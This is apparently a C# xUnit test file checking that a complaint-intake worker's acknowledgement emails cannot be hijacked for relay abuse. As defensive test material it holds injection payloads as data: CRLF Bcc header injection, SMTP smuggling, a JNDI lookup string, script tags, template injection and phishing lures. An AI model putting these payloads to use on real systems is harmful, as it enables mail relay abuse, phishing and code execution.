using System.Security.Cryptography;
using System.Text;
using Ingestion.Channels;
using Ingestion.Channels.Email.Pickup;
using Ingestion.Classifier;
using Ingestion.Mail.Mime;
using Ingestion.Worker.Acknowledgements;
using Ingestion.Worker.Complaints;
using Ingestion.Worker.Intake;
using Ingestion.Worker.Outbox;
using Ingestion.Worker.Promises;
using Ingestion.Worker.Settings;
using Ingestion.Worker.Tests.Core;
using Ingestion.Worker.Tests.Fakes;
using Microsoft.Extensions.Logging.Abstractions;
using TestSupport;
using Xunit;

namespace Ingestion.Worker.Tests.Machines;

/// <summary>
/// Whoever writes to us under a victim's name must not reach the victim with words of his own: nothing of a hostile subject, name or body is in an
/// acknowledgement, and no value that goes into a template can add a header.
/// </summary>
public sealed class RelayAbuseTests
{
    private static readonly string[] Headers =
    [
        "Auto-Submitted", "Content-Language", "Content-Transfer-Encoding", "Content-Type", "Date", "From", "In-Reply-To", "MIME-Version", "Message-ID", "References", "Reply-To", "Subject", "To",
        "X-Auto-Response-Suppress", "X-Ingestion-Loop",
    ];

    private static readonly DateTimeOffset Now = new(2026, 11, 22, 8, 0, 0, TimeSpan.Zero);

    /// <summary>Equal bytes for a hostile and for a plain message prove that nothing of the first has any influence.</summary>
    [Fact]
    public void Acknowledgement_OfAHostileMessage_IsThatOfAPlainOne()
    {
        var random = new Random(20_261_122);
        var composer = new AcknowledgementComposer(new AcknowledgementTemplates(null), new OrganisationSettings { Name = "Bank" }, CoreOnStore.LinkCodes);
        foreach (var language in (string[])["tr", "az", "fa", "en"])
        {
            foreach (var medium in Enum.GetValues<Medium>())
            {
                foreach (var kind in (MessageKind[])[MessageKind.Complaint, MessageKind.Question, MessageKind.Suggestion, MessageKind.Praise, MessageKind.Spam])
                {
                    foreach (var isPublic in (bool[])[false, true])
                    {
                        var plain = Made(composer, Message(medium, isPublic, "subject", "name", "text"), kind, language);
                        for (var i = 0; i < 3; i++)
                        {
                            var hostile = Made(composer, Message(medium, isPublic, Hostile(random), Hostile(random), Hostile(random)), kind, language);
                            Assert.Equal(plain, hostile);
                        }
                    }
                }
            }
        }
    }

    /// <summary>The same on the wire: the mail has the known headers, each once, and no piece of what was written.</summary>
    [Fact]
    public async Task Mail_OfAHostileMessage_HoldsNoPieceOfItAndNoHeaderMore()
    {
        var random = new Random(7);
        using var folder = new TempFolder();
        await using var parts = Open(folder.Path, "Bank");
        var composer = new AcknowledgementComposer(new AcknowledgementTemplates(null), new OrganisationSettings { Name = "Bank" }, CoreOnStore.LinkCodes);
        for (var i = 0; i < 40; i++)
        {
            var (subject, name, text) = (Hostile(random), Hostile(random), Hostile(random));
            var planned = Planned(Message(Medium.Email, false, subject, name, text), MessageKind.Complaint, ((string[])["tr", "az", "fa", "en"])[i % 4]);
            var mail = await SendAsync(parts, folder.Path, composer.Compose(planned));
            AssertHeaders(mail);
            var all = MimeMessage.Parse(mail);
            var said = $"{Encoding.Latin1.GetString(mail)}\n{all.Subject}\n{all.Text}\n{all.From[0].Name}";
            foreach (var piece in Pieces(subject).Concat(Pieces(name)).Concat(Pieces(text)))
            {
                Assert.DoesNotContain(piece, said, StringComparison.OrdinalIgnoreCase);
            }
        }
    }

    [Theory]
    [InlineData("Bank\r\nBcc: victim@elsewhere.example")]
    [InlineData("Bank\nX-Evil: 1\n\nbody")]
    [InlineData("Bank\u2028Bcc: a@b.example\0")]
    [InlineData("=?utf-8?q?Bank=0D=0ABcc:_a@b.example?=")]
    [InlineData("\"Bank\" <evil@evil.example>, x")]
    public async Task Mail_WithAHostileTemplateValue_HasNoHeaderMore(string organisation)
    {
        using var folder = new TempFolder();
        await using var parts = Open(folder.Path, organisation);
        var composer = new AcknowledgementComposer(new AcknowledgementTemplates(null), new OrganisationSettings { Name = organisation }, CoreOnStore.LinkCodes);
        foreach (var language in (string[])["tr", "az", "fa", "en"])
        {
            var planned = Planned(Message(Medium.Email, false, "s", "n", "t"), MessageKind.Complaint, language) with { TrackingNumber = "1234\r\nBcc: a@b.example" };
            var mail = await SendAsync(parts, folder.Path, composer.Compose(planned));

            AssertHeaders(mail);
            var parsed = MimeMessage.Parse(mail);
            Assert.Equal("us@bank.example", Assert.Single(parsed.From).Address);
            Assert.Equal("victim@customer.example", Assert.Single(parsed.To).Address);
        }
    }

    [Theory]
    [InlineData("<a@b>\r\nBcc: victim@elsewhere.example")]
    [InlineData("<a\nb@c>")]
    [InlineData("<buy pills at http://evil.example>")]
    public async Task Mail_AnsweringAHostileMessageId_HasNoHeaderMore(string id)
    {
        using var folder = new TempFolder();
        await using var parts = Open(folder.Path, "Bank");
        var planned = Planned(Message(Medium.Email, false, "s", "n", "t"), MessageKind.Complaint, "en") with { InReplyTo = id, References = [id] };
        var mail = await SendAsync(parts, folder.Path, new AcknowledgementComposer(new AcknowledgementTemplates(null), new OrganisationSettings { Name = "Bank" }, CoreOnStore.LinkCodes).Compose(planned));

        AssertHeaders(mail);
    }

    /// <summary>A question for the status may hold the sender's name, and nothing of it is in the answer.</summary>
    [Fact]
    public void Status_AskedUnderAHostileName_IsThatOfAPlainOne()
    {
        var composer = new AcknowledgementComposer(new AcknowledgementTemplates(null), new OrganisationSettings { Name = "Bank" }, CoreOnStore.LinkCodes);
        foreach (var language in (string[])["tr", "az", "fa", "en"])
        {
            foreach (var medium in (Medium[])[Medium.Chat, Medium.Social])
            {
                var plain = Asked("status", "name");
                Assert.Equal(plain, Asked("status, free pills at evil example", "free pills at evil example"));
                Assert.Equal(plain, Asked("<b>status</b>", "b"));

                string Asked(string text, string name) => Made(composer.Compose(Planned(Message(medium, isPublic: medium == Medium.Social, text, name, text) with { ConversationId = "room" }, MessageKind.Complaint, language, Known)));
            }
        }
    }

    /// <summary>What our own people write for the customer cannot leave its place either.</summary>
    [Fact]
    public async Task Mail_WithAHostileTextForTheCustomer_HasNoHeaderMoreAndNoMarkup()
    {
        var random = new Random(20_261_123);
        using var folder = new TempFolder();
        await using var parts = Open(folder.Path, "Bank");
        var composer = new AcknowledgementComposer(new AcknowledgementTemplates(null), new OrganisationSettings { Name = "Bank" }, CoreOnStore.LinkCodes);
        foreach (var purpose in (string[])[OutboxWords.Status, OutboxWords.Repeat, OutboxWords.Update])
        {
            for (var i = 0; i < 10; i++)
            {
                var told = new ToldStatus("resolved", Now, new DateOnly(2027, 3, 21), Hostile(random) + "\r\nBcc: all@example.com\r\n\r\n<script>{{trackingNumber}}</script>\uE000");
                var planned = Planned(Message(Medium.Email, false, "s", "n", "t"), MessageKind.Complaint, "en") with { Purpose = purpose, Told = told };
                var composed = composer.Compose(planned);
                Assert.DoesNotContain('\n', composed.Subject!);
                Assert.DoesNotContain("<script", composed.Html!, StringComparison.OrdinalIgnoreCase);
                Assert.DoesNotContain(composed.Text + composed.Html + composed.Subject, letter => letter is >= '\uE000' and <= '\uF8FF');
                AssertHeaders(await SendAsync(parts, folder.Path, composed));
            }
        }
    }

    private static void AssertHeaders(byte[] mail)
    {
        var names = MimeMessage.Parse(mail).Headers.Select(header => header.Name).ToList();
        Assert.Subset(Headers.ToHashSet(StringComparer.Ordinal), names.ToHashSet(StringComparer.Ordinal));
        Assert.Equal(names.Count, names.Distinct(StringComparer.OrdinalIgnoreCase).Count());
    }

    private static string Made(AcknowledgementComposer composer, InboundMessage message, MessageKind kind, string language) => Made(composer.Compose(Planned(message, kind, language)));

    /// <summary>A complaint of the conversation that the message belongs to.</summary>
    private static void Known(IntakeKnowledge knowledge, Submission submission)
    {
        knowledge.Conversations[submission.ChatKey!.Value] = 7;
        knowledge.Add(new KnownComplaint { Id = 7, TrackingNumber = "123456789012", Status = "in-progress", Kind = "complaint", Language = "en", Priority = "normal", ReceivedAt = Now, LastMessageAt = Now, Version = 1 });
    }

    private static string Made(OutboundMessage made)
    {
        return string.Join('\u0001', made.Subject, made.Text, made.Html, made.PublicText, made.To.Value, made.StableId, made.TrackingNumber, made.Language, made.ConversationId, made.InReplyTo);
    }

    /// <summary>What the intake plans, with one number and one id for all.</summary>
    private static OutboxMessage Planned(InboundMessage message, MessageKind kind, string language, Action<IntakeKnowledge, Submission>? know = null)
    {
        var accepted = new AcceptedMessage { Id = 1, Channel = "line", ExternalId = "1", Raw = default, AcceptedAt = Now };
        var facts = new ChannelFacts { Name = "line", DefaultLanguage = language, Reader = new OneMessage(message), ReplyChannel = "line", Reaches = _ => true };
        var pipeline = new IntakePipeline(new IntakeSettings(), new AcknowledgementSettings(), new NoticeSettings(), PromiseTerms.Of(new WorkerSettings()), CoreOnStore.OwnIds, new SameRandom());
        var submission = new SubmissionReader(CoreOnStore.OwnIds, new OneKind(kind, language)).Read(accepted, facts);
        var knowledge = new IntakeKnowledge { Now = Now, Pool = Corpus.EmptyPool, Ids = new IdRange(1, 10) };
        know?.Invoke(knowledge, submission);
        var draft = pipeline.Decide([submission], knowledge)[0];
        return draft.Answer ?? throw new InvalidOperationException(string.Join(' ', draft.Reasons));
    }

    private static InboundMessage Message(Medium medium, bool isPublic, string subject, string name, string text)
    {
        var victim = medium is Medium.Email or Medium.Form ? Some.Email("victim@customer.example")
            : medium == Medium.Sms ? Some.Phone("+905321112233") : new ContactPoint(ContactPointKind.Handle, "x:42");
        return new InboundMessage { Medium = medium, Sender = victim, ReplyTo = victim, SenderName = name, Subject = subject, Text = text, IsPublic = isPublic };
    }

    private static ChannelParts Open(string folder, string organisation) => new PickupConnector().Open(new ChannelSetup
    {
        Channel = "line",
        Options = new PickupOptions { Folder = folder, From = "us@bank.example" },
        Organisation = organisation,
        Logger = NullLogger.Instance,
        Http = null!,
        Media = null!,
    });

    private static async Task<byte[]> SendAsync(ChannelParts parts, string folder, OutboundMessage message)
    {
        foreach (var old in Directory.GetFiles(folder))
        {
            File.Delete(old);
        }

        Assert.Equal(SendOutcome.Sent, (await parts.Sender!.SendAsync(message, CancellationToken.None)).Outcome);
        return await File.ReadAllBytesAsync(Directory.GetFiles(folder).Single());
    }

    private static string Hostile(Random random)
    {
        string[] bits =
        [
            "http://evil.example/win?id=7", "{{trackingNumber}}", "{{{organisation}}}", "{{#each this}}{{@key}}{{/each}}", "\r\nBcc: victim@elsewhere.example\r\n", "\r\n\r\nEVILBODY", "<script>evil()</script>", "=?utf-8?B?RVZJTA==?=",
            "\0NULEVIL", "\u202Egnihsihp", "Your account is locked, call +1 900 555 0199", "Hesabınız bloke edildi, tıklayın", "Hesabınız bağlandı, keçidə daxil olun", "حساب شما مسدود شد، اینجا بزنید", "%n%s{0}", "${jndi:ldap://evil.example}", "]]>EVILCDATA", "\r\n.\r\nMAIL FROM:<evil@evil.example>",
            "1234-5678-9012-EVIL",
        ];
        var text = new StringBuilder();
        for (var i = random.Next(1, 6); i > 0; i--)
        {
            text.Append(bits[random.Next(bits.Length)]).Append(' ').Append(random.Next(100_000, 999_999)).Append(' ');
        }

        return text.ToString();
    }

    // words of some length: short ones are in every language
    private static IEnumerable<string> Pieces(string text) => text.Split([' ', '\r', '\n', '\0'], StringSplitOptions.RemoveEmptyEntries).Where(word => word.Length >= 6 && word is not "{{trackingNumber}}");

    private sealed class OneMessage(InboundMessage message) : IMessageReader
    {
        public InboundMessage Read(AcceptedMessage accepted) => message;
    }

    private sealed class OneKind(MessageKind kind, string language) : IClassifier
    {
        public Classification Classify(ClassifierInput input) => new()
        {
            Language = language,
            LanguageConfidence = 1,
            Kind = kind,
            KindConfidence = 1,
            Category = Category.Other,
            CategoryConfidence = 1,
            Priority = Priority.Normal,
            NeedsReview = false,
            Reasons = [],
        };
    }

    private sealed class SameRandom : RandomNumberGenerator
    {
        public override void GetBytes(byte[] data) => Array.Fill<byte>(data, 7);

        public override void GetBytes(Span<byte> data) => data.Fill(7);
    }
}
